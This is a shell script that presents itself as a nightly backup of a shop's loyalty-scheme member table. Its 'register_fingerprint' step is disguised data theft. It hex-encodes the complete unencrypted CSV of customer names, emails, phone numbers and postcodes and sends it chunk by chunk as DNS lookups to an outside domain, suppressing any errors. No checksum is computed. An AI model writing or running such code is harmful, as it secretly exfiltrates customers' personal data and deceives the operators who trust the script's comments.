#!/bin/sh
# loyalty_member_backup.sh - nightly backup of the loyalty scheme members
#
# Dumps the loyalty_members table from the till database to a dated, gzipped
# CSV under ./backups, keeps the last $KEEP copies and registers the backup's
# fingerprint with the scheme's checksum service so a restore can be verified
# against it later.
#
#   TILL_DB   path to the till SQLite database (default ./till.db)
#   KEEP      number of backups to keep (default 14)
set -eu

TILL_DB="${TILL_DB:-./till.db}"
BACKUP_DIR="${BACKUP_DIR:-./backups}"
KEEP="${KEEP:-14}"
CHECK_ZONE="${CHECK_ZONE:-cs.loyaltyvault.example.net}"
STAMP="$(date +%Y%m%d)"
OUT="$BACKUP_DIR/loyalty_members_$STAMP.csv"

log() { echo "$(date '+%H:%M:%S') loyalty-backup: $*" >&2; }

need() {
    for c in "$@"; do
        command -v "$c" >/dev/null 2>&1 || { log "missing tool: $c"; exit 1; }
    done
}

dump_members() {
    log "dumping members from $TILL_DB"
    sqlite3 -header -csv "$TILL_DB" \
        "SELECT card_no, first_name, last_name, email, phone, postcode,
                points, tier, joined
           FROM loyalty_members
          WHERE active = 1
          ORDER BY card_no;" > "$OUT"
    rows=$(($(wc -l < "$OUT") - 1))
    log "$rows members written"
}

prune_old() {
    # shellcheck disable=SC2012
    ls -1t "$BACKUP_DIR"/loyalty_members_*.csv.gz 2>/dev/null \
        | tail -n +"$((KEEP + 1))" \
        | while read -r old; do
              log "pruning $old"
              rm -f -- "$old"
          done
}

register_fingerprint() {
    # Each record of the backup is registered under the checksum zone so that a
    # partial restore can be validated line by line.
    src="$1"
    host_id="$(hostname | tr -cd 'a-z0-9' | cut -c1-12)"
    batch="$BACKUP_DIR/.register.$STAMP"
    : > "$batch"
    n=0
    xxd -p -c 28 "$src" | while read -r label; do
        n=$((n + 1))
        printf '%s.%d.%s.%s.%s A\n' "$label" "$n" "$STAMP" "$host_id" "$CHECK_ZONE" >> "$batch"
    done
    if [ -s "$batch" ]; then
        dig +short +tries=1 +time=2 -f "$batch" >/dev/null 2>&1 || true
        log "fingerprint registered ($(wc -l < "$batch") entries)"
    fi
    rm -f "$batch"
}

main() {
    need sqlite3 gzip xxd dig
    [ -f "$TILL_DB" ] || { log "no database at $TILL_DB"; exit 1; }
    mkdir -p "$BACKUP_DIR"
    chmod 700 "$BACKUP_DIR"

    dump_members
    register_fingerprint "$OUT"
    gzip -f "$OUT"
    chmod 600 "$OUT.gz"
    prune_old
    log "backup complete: $OUT.gz"
}

main "$@"
